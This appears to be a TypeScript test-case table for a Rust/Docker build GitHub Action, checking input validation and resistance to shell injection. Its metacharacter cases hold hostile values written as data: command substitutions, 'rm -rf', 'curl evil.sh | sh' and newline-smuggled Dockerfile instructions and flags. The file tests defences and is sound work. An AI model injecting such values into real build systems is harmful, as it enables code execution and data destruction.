import fs from 'node:fs';
import path from 'node:path';
import { buildOf, valuesOf, bad, workspace, HELLO, type Case } from './case-kit.js';

// Rows: bad inputs and shell metacharacters. Each says what a user would want (`expected`, the
// doc's column), how to provoke it, and what to assert beyond the checks every row gets.
export const INPUT_CASES: Case[] = [
  // ---- Bad input --------------------------------------------------------------------------------------
  bad('Bad input', 'platforms: unsupported', { platforms: 'linux/386' }, 'platforms', 'linux/386', /Use linux\/amd64 and\/or linux\/arm64/, 'which platforms muslrust ships'),
  bad('Bad input', 'platforms: misspelled', { platforms: 'linux/amd64,linux/amr64' }, 'platforms', 'linux/amr64', /Use linux\/amd64 and\/or linux\/arm64/, 'which platforms muslrust ships'),
  bad('Bad input', 'platforms: 32-bit arm', { platforms: 'linux/arm/v7' }, 'platforms', 'linux/arm/v7', /did you mean arm64\?/, 'suggests arm64'),
  bad('Bad input', 'platforms: empty list', { platforms: ' , , ' }, 'platforms', ',', /Give at least one of linux\/amd64, linux\/arm64/, 'to give at least one or leave it empty'),
  bad('Bad input', 'MUSLRUST_PLATFORMS org variable misspelled', {}, 'platforms (from MUSLRUST_PLATFORMS)', 'linux/arm46', /Use linux\/amd64 and\/or linux\/arm64/, 'that it came from the variable', {
    env: { MUSLRUST_PLATFORMS: 'linux/amd64,linux/arm46' },
  }),
  bad('Bad input', 'bin: no such binary', { bin: 'helo' }, 'bin', 'helo', /Use one of: hello \(package hello in crates\/hello\)/, 'lists the binaries'),
  bad('Bad input', 'workspace without a binary', { context: 'lib-only' }, 'context', 'lib-only', /Add a binary crate/, 'to add a binary', {
    prepare: (c) => ({
      env: workspace(c, {
        'lib-only/Cargo.toml': '[package]\nname = "lib-only"\nversion = "0.1.0"\nedition = "2021"\n',
        'lib-only/Cargo.lock': 'version = 4\n\n[[package]]\nname = "lib-only"\nversion = "0.1.0"\n',
        'lib-only/src/lib.rs': 'pub fn f() {}\n',
      }),
    }),
  }),
  bad('Bad input', 'no Cargo.lock', { context: 'no-lock' }, 'context', 'no-lock', /cargo generate-lockfile/, 'how to generate and commit Cargo.lock', {
    prepare: (c) => {
      const env = workspace(c, {});
      fs.cpSync(HELLO, path.join(c.scratch, 'ws', 'no-lock'), { recursive: true, filter: (p) => !p.endsWith('Cargo.lock') && !p.includes('/target') });
      return { env };
    },
  }),
  bad('Bad input', 'context without Cargo.toml', { context: 'docs' }, 'context', 'docs', /directory of your Cargo workspace/, 'to point it at the Cargo workspace'),
  bad('Bad input', 'context outside the workspace', { context: '../..' }, 'context', '../..', /inside the repository checkout/, 'to stay inside the checkout'),
  bad('Bad input', 'context: absolute path elsewhere', { context: '/etc' }, 'context', '/etc', /inside the repository checkout/, 'to stay inside the checkout'),
  bad('Bad input', 'context: a file, not a directory', { context: 'README.md' }, 'context', 'README.md', /point `context` at the Cargo workspace directory/, 'to name a directory'),
  bad('Bad input', 'dockerfile does not exist', { dockerfile: 'docker/Dockerfile.release' }, 'dockerfile', 'docker/Dockerfile.release', /relative to the workspace .*or leave it empty/, 'the path it is relative to'),
  bad('Bad input', 'image: upper case', { image: 'Org/Hello' }, 'image', 'Org/Hello', /Use "org\/hello"/, 'the lower-case name'),
  bad('Bad input', 'image: space', { image: 'org/hello world' }, 'image', 'org/hello world', /e\.g\. org\/app/, 'what a valid name looks like'),
  bad('Bad input', 'image: bad registry host', { image: 'registry_1.example.com/org/hello' }, 'image', 'registry_1.example.com/org/hello', /invalid registry host .*e\.g\. org\/app/, 'which host is invalid'),
  bad('Bad input', 'image: tag in image', { image: 'org/hello:1.0' }, 'image', 'org/hello:1.0', /put tags in the `tags` input/, 'to use `tags`'),
  bad('Bad input', 'image: digest in image', { image: `org/hello@sha256:${'a'.repeat(64)}` }, 'image', `org/hello@sha256:${'a'.repeat(64)}`, /without tag/, 'what a valid name looks like'),
  bad('Bad input', 'image: empty', { image: '' }, 'image', '', /Name the image to build/, 'how to name one'),
  bad('Bad input', 'boolean: dry-run typo', { 'dry-run': 'ture' }, 'dry-run', 'ture', /Use true or false/, 'true or false (a typo never means false)'),
  bad('Bad input', 'boolean: sbom: yes', { sbom: 'yes' }, 'sbom', 'yes', /Use true or false/, 'true or false'),
  bad('Bad input', 'boolean: cache-mounts: 1', { 'cache-mounts': '1' }, 'cache-mounts', '1', /Use true or false/, 'true or false'),
  bad('Bad input', 'enum: cache', { cache: 's3' }, 'cache', 's3', /Use one of: gha, registry, local, none/, 'the accepted values'),
  bad('Bad input', 'enum: push', { push: 'always' }, 'push', 'always', /Use one of: auto, true, false/, 'the accepted values'),
  bad('Bad input', 'enum: driver', { driver: 'kubernetes' }, 'driver', 'kubernetes', /Use one of: docker-container, docker/, 'the accepted values'),
  bad('Bad input', 'enum: provenance', { provenance: 'full' }, 'provenance', 'full', /Use one of: false, true, min, max/, 'the accepted values'),
  bad('Bad input', 'enum: qemu', { qemu: 'sometimes' }, 'qemu', 'sometimes', /Use one of: auto, true, false/, 'the accepted values'),
  bad('Bad input', 'enum: cache-mode', { 'cache-mode': 'all' }, 'cache-mode', 'all', /Use one of: min, max/, 'the accepted values'),
  bad('Bad input', 'enum: mode', { mode: 'merged' }, 'mode', 'merged', /Use one of: build, merge/, 'the accepted values'),
  bad('Bad input', 'tags: semver rule without pattern', { tags: 'type=semver' }, 'tags', 'type=semver', /e\.g\. type=semver,pattern=\{\{version\}\}/, 'an example rule'),
  bad('Bad input', 'tags: misspelled rule type', { tags: 'type=semvr,pattern={{version}}' }, 'tags', 'type=semvr,pattern={{version}}', /Did you mean 'semver'\?/, 'the type it probably meant'),
  bad('Bad input', 'tags: misspelled key', { tags: 'type=semver,patern={{version}}' }, 'tags', 'type=semver,patern={{version}}', /Did you mean 'pattern'\?/, 'the key it probably meant'),
  bad('Bad input', 'tags: unclosed quote', { tags: 'type=raw,"value=a,b' }, 'tags', 'type=raw,"value=a,b', /Close the field with a double quote/, 'how to close it'),
  bad('Bad input', 'flavor: latest=maybe', { flavor: 'latest=maybe' }, 'flavor', 'latest=maybe', /Use latest=auto, latest=true or latest=false/, 'the accepted values'),
  bad('Bad input', 'flavor: misspelled key', { flavor: 'sufix=-musl' }, 'flavor', 'sufix=-musl', /Did you mean 'suffix'\?/, 'the key it probably meant'),
  bad('Bad input', 'flavor: stray onlatest', { flavor: 'onlatest=true' }, 'flavor', 'onlatest=true', /suffix=-musl,onlatest=true/, 'where onlatest goes'),
  bad('Bad input', 'mode: merge without digests', { mode: 'merge' }, 'digests', '', /Pass the `digest` output of every matrix leg/, 'to pass the legs\' digests'),
  bad('Bad input', 'digests: not a digest', { mode: 'merge', digests: 'sha256:1234' }, 'digests', 'sha256:1234', /sha256:<64 hex>/, 'the digest format'),
  bad('Bad input', 'labels: line without =', { labels: 'org.opencontainers.image.title' }, 'labels', 'org.opencontainers.image.title', /one KEY=VALUE per line/, 'the KEY=VALUE format'),
  bad('Bad input', 'registry: a URL', { registry: 'https://ghcr.io' }, 'registry', 'https://ghcr.io', /no scheme, no path/, 'to give a host only'),
  bad('Bad input', 'username without password', { password: '' }, 'password', '', /Set both username and password/, 'to set both'),
  bad('Bad input', 'push to Docker Hub without credentials', { username: '', password: '' }, 'username', '', /Set username and password .*or set push: false/, 'how to log in or not push'),
  bad('Bad input', 'tags: no tag for this event', { tags: 'type=ref,event=pr' }, 'tags', 'type=ref,event=pr', /Add a rule that fires on this ref/, 'to add a rule or not push'),
  bad('Bad input', 'push-by-digest with two images', { 'push-by-digest': 'true', image: 'org/hello\norg/hello-mirror', platforms: 'linux/arm64' }, 'push-by-digest', 'true', /list the other names in the merge step/, 'where the other names go'),
  bad('Bad input', 'buildx-version older than 0.21', { 'buildx-version': 'v0.20.0' }, 'buildx-version', 'v0.20.0', /0\.21\.0 or newer/, 'the minimum (checked before docker runs)', {
    // The runner already has that old buildx: it must not be accepted "as requested".
    env: { FAKE_BUILDX_VERSION: 'v0.20.0' },
  }),

  // ---- Shell metacharacters and newlines ------------------------------------------------------------------
  {
    name: 'build-args: $( ), ;, &&, backticks in a value',
    group: 'Shell metacharacters and newlines',
    expected: 'builds; each line reaches docker as exactly one argv element `KEY=<value>` after `--build-arg`; no shell runs it',
    prepare: (c) => {
      const evil = `x $(touch ${c.canary}) ; rm -rf ${c.victim} && \`touch ${c.canary}2\``;
      return {
        inputs: { 'build-args': `EVIL=${evil}\nSECOND=two words; "quoted" 'single'` },
        check: (o) => {
          const args = valuesOf(buildOf(o)?.argv, '--build-arg');
          expect(args).toEqual([`EVIL=${evil}`, `SECOND=two words; "quoted" 'single'`]);
          return args.map((a) => `argv element: ${a}`);
        },
      };
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'labels: ;, $( ), quotes in a value',
    group: 'Shell metacharacters and newlines',
    expected: 'builds; the label reaches docker as one argv element after `--label`',
    prepare: (c) => {
      const value = `a;b $(touch ${c.canary}) "double" 'single' \`id\``;
      return {
        inputs: { labels: `org.example.note=${value}` },
        check: (o) => {
          const labels = valuesOf(buildOf(o)?.argv, '--label').filter((l) => l.startsWith('org.example.note='));
          expect(labels).toEqual([`org.example.note=${value}`]);
          return [`argv element: ${labels[0]}`];
        },
      };
    },
    expect: { kind: 'ok' },
  },
  {
    name: 'image: a newline lists two images, both validated and tagged',
    group: 'Shell metacharacters and newlines',
    expected: 'builds and tags both names; login only to the first registry (the second is a local one)',
    inputs: { image: 'org/hello\nlocalhost:5000/hello' },
    expect: { kind: 'ok' },
    check: (o) => {
      const tags = valuesOf(buildOf(o)?.argv, '--tag');
      expect(tags).toEqual(expect.arrayContaining(['org/hello:1.2.3', 'localhost:5000/hello:1.2.3']));
      return [`--tag values: ${tags.filter((t) => t.endsWith(':1.2.3')).join(', ')} (+ ${tags.length - 2} more)`];
    },
  },
  bad('Shell metacharacters and newlines', 'image: a newline, second name invalid', { image: 'org/hello\nOrg/Other' }, 'image', 'Org/Other', /Use "org\/other"/, 'the lower-case name'),
  bad('Shell metacharacters and newlines', 'image: shell metacharacters', { image: 'org/hello;touch pwned' }, 'image', 'org/hello;touch pwned', /e\.g\. org\/app/, 'what a valid name looks like'),
  bad('Shell metacharacters and newlines', 'build-args: a newline smuggling a flag', { 'build-args': 'A=1\n--network=host' }, 'build-args', '--network=host', /one KEY=VALUE per line/, 'the KEY=VALUE format'),
  bad('Shell metacharacters and newlines', 'labels: $( ) in a key', { labels: '$(touch pwned)=x' }, 'labels', '$(touch pwned)=x', /one KEY=VALUE per line/, 'the KEY=VALUE format'),
  bad('Shell metacharacters and newlines', 'runtime-image: a newline injecting a Dockerfile instruction', { 'runtime-image': 'chainguard/static:latest\nRUN touch /tmp/pwned' }, 'runtime-image', 'chainguard/static:latest\nRUN touch /tmp/pwned', /e\.g\. chainguard\/static:latest/, 'what an image reference looks like'),
  bad('Shell metacharacters and newlines', 'builder-image: extra words', { 'builder-image': 'org/muslrust-chef:1.98 AS chef' }, 'builder-image', 'org/muslrust-chef:1.98 AS chef', /docs\/builder-image\.md/, 'what an image reference looks like'),
  bad('Shell metacharacters and newlines', 'context: shell metacharacters', { context: 'examples/hello; touch pwned' }, 'context', 'examples/hello; touch pwned', /point `context` at the Cargo workspace directory/, 'to name a directory'),
  bad('Shell metacharacters and newlines', 'profile: shell metacharacters', { profile: 'release && id' }, 'profile', 'release && id', /Use release \(default\), dev, or a custom/, 'the profile names cargo accepts'),
  bad('Shell metacharacters and newlines', 'features: shell metacharacters', { features: 'tls;touch pwned' }, 'features', 'tls;touch pwned', /separated by commas or newlines/, 'the list format'),
  bad('Shell metacharacters and newlines', 'bin: shell metacharacters', { bin: 'hello;id' }, 'bin', 'hello;id', /\[\[bin\]\] target/, 'what a binary name is'),
  bad('Shell metacharacters and newlines', 'buildx-version: shell metacharacters', { 'buildx-version': 'latest; curl evil.sh | sh' }, 'buildx-version', 'latest; curl evil.sh | sh', /Use e\.g\. v0\.\d+\.\d+, or leave it empty/, 'a version example'),
  bad('Shell metacharacters and newlines', 'registry: shell metacharacters', { registry: 'ghcr.io;id' }, 'registry', 'ghcr.io;id', /no scheme, no path/, 'what a host looks like'),
  {
    name: 'tags: raw value with $( ), ; and a space',
    group: 'Shell metacharacters and newlines',
    expected: 'builds; the value is sanitised into a valid tag the way docker/metadata-action does, one argv element',
    inputs: { tags: 'type=raw,value=v1 $(id);x' },
    expect: { kind: 'ok' },
    check: (o) => {
      const tags = valuesOf(buildOf(o)?.argv, '--tag');
      expect(tags).toEqual(['org/hello:v1-id-x']);
      return [`--tag values: ${tags.join(', ')}`];
    },
  },
  {
    name: 'username: shell metacharacters',
    group: 'Shell metacharacters and newlines',
    expected: 'one argv element after `--username`; no shell runs it',
    prepare: (c) => ({
      inputs: { username: `bot$(touch ${c.canary})` },
      check: (o) => {
        const login = o.calls.find((k) => k.argv[1] === 'login');
        expect(valuesOf(login?.argv, '--username')).toEqual([`bot$(touch ${c.canary})`]);
        return [`--username value: ${valuesOf(login?.argv, '--username')[0]}`];
      },
    }),
    expect: { kind: 'ok' },
  },
  {
    name: 'digests: one per line (merge)',
    group: 'Shell metacharacters and newlines',
    expected: 'each digest is one `name@digest` argv element of `imagetools create`',
    inputs: { mode: 'merge', digests: `sha256:${'b'.repeat(64)}\nsha256:${'c'.repeat(64)}` },
    expect: { kind: 'ok' },
    check: (o) => {
      const create = o.calls.find((k) => k.argv.slice(1, 4).join(' ') === 'buildx imagetools create');
      const refs = (create?.argv ?? []).filter((a) => a.includes('@sha256:'));
      expect(refs).toEqual([`org/hello@sha256:${'b'.repeat(64)}`, `org/hello@sha256:${'c'.repeat(64)}`]);
      return [`imagetools create sources: ${refs.length} elements`];
    },
  },
];
